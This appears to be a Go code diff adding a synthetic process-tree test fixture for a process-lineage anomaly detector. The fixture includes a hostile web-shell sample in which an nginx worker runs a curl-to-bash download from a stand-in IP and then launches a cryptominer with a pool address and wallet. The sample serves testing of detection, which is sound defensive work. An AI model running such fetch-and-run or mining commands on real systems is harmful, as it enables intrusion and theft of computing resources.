@@ -4,6 +4,8 @@ import (
 	"fmt"
 	"strings"
 	"time"
+
+	"oddkin/tree"
 )
 
 // at is a moment of the sample documents' day.
@@ -59,7 +61,7 @@ func webServer() *Document {
 		FindingsOmitted: 238,
 		WarningsOmitted: 9,
 	}
-	d.Evidence.Notes = notes(d)
+	d.Evidence.Notes = notes(d, &tree.Counts{ClockSteps: 1})
 	return d
 }
 
@@ -143,4 +145,43 @@ func ordinaryFinding() Finding {
 			{2, Process{Name: "run-parts", Link: "pid", Standing: "started", Source: Source{"list.csv", -1, 0}}},
 		}}},
 	}
+}
+
+// forestDocument is a document with a forest of two hosts: services with many
+// equal children, a web shell, links of every kind and a lineage 40 deep.
+func forestDocument() *Document {
+	d := &Document{
+		Schema:   Schema,
+		Manifest: Manifest{Tool: "oddkin", Version: "1.2.0", Model: &Model{Name: "base", Threshold: 0.5}},
+		Findings: []Finding{}, Warnings: []Warning{}, Forest: &Forest{Omitted: 2},
+	}
+	add := func(parent int32, host, image, user, command, clock, link string, score float32) int32 {
+		id := int32(len(d.Forest.Nodes))
+		n := Node{ID: id, Parent: parent, Score: score, Host: host, Boot: 1, Entry: "service"}
+		if score > 0 {
+			n.Rank = int(100 - 90*score)
+		}
+		n.Process = hop(0, image, uint32(1+37*id), command, clock, link).Process
+		n.User = user
+		d.Forest.Nodes = append(d.Forest.Nodes, n)
+		return id
+	}
+	init := add(-1, "web01", "/usr/lib/systemd/systemd", "0", "/sbin/init", "00:00:01", "root", 0.998)
+	cron := add(init, "web01", "/usr/sbin/cron", "0", "/usr/sbin/cron -f -P", "00:00:07", "observed", 0.031)
+	for i := range 12 {
+		sh := add(cron, "web01", "/usr/bin/dash", "0", "/bin/sh -c 'command -v debian-sa1 > /dev/null && debian-sa1 1 1'", fmt.Sprintf("%02d:15:01", i), "observed", 0.02+float32(i)/1000)
+		add(sh, "web01", "/usr/lib/sysstat/debian-sa1", "0", "debian-sa1 1 1", fmt.Sprintf("%02d:15:01.2", i), "observed", 0.02+float32(i)/1000)
+	}
+	nginx := add(init, "web01", "/usr/sbin/nginx", "0", "nginx: master process /usr/sbin/nginx", "00:00:09", "observed", 0.998)
+	worker := add(nginx, "web01", "/usr/sbin/nginx", "33", "", "00:00:10", "inferred", 0.998)
+	sh := add(worker, "web01", "/usr/bin/dash", "33", "sh -c 'curl -s http://203.0.113.9/x.sh | bash >/dev/null 2>&1 &'", "14:02:11", "pid", 0.998)
+	miner := add(sh, "web01", "/tmp/.x/kdevtmpfsi", "33", "/tmp/.x/kdevtmpfsi -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DsMTmQ -k", "14:02:14.2", "observed", 0.998)
+	d.Forest.Nodes[miner].SameProcess = true
+	deep := add(-1, "web01", "/usr/bin/su", "1000", "su -", "15:00:00", "orphan", 0.2)
+	for range 39 {
+		deep = add(deep, "web01", "/usr/bin/bash", "1000", "bash -c 'exec bash'", "15:00:00", "observed", 0.2)
+	}
+	explorer := add(-1, "ANN-PC", `C:\Windows\explorer.exe`, `CORP\ann.with.a.long.name`, `C:\Windows\Explorer.EXE`, "09:00:00", "orphan", 0)
+	add(explorer, "ANN-PC", `C:\Windows\System32\cmd.exe`, `CORP\ann.with.a.long.name`, `cmd /c "echo 日本語のとても長い名前のファイル.txt 日本語のとても長い名前のファイル.txt"`, "09:10:00", "guid", 0)
+	return d
 }
